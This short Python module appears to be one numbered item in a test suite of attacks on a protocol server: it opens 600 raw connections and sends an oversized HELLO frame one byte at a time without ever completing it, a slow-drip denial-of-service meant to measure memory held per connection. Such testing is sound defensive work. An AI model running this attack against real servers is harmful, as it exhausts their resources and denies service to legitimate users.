"""600 connections send a long HELLO, one byte after the other, and never end it."""

from __future__ import annotations

import contextlib
import time

from link_frames import hello

from attacks.target import Target

ITEM = 5
MEMORY_MIB = 64
"""32 KiB that were read of each, and as much of what keeps them."""


def attack(target: Target) -> None:
    said = hello(token="m" * 8_000)
    links = []
    with contextlib.suppress(OSError):
        for _ in range(600):
            links.append(target.raw())
    for at in range(len(said) - 1):
        for link in links:
            link.send(said[at : at + 1])
        time.sleep(0.01)
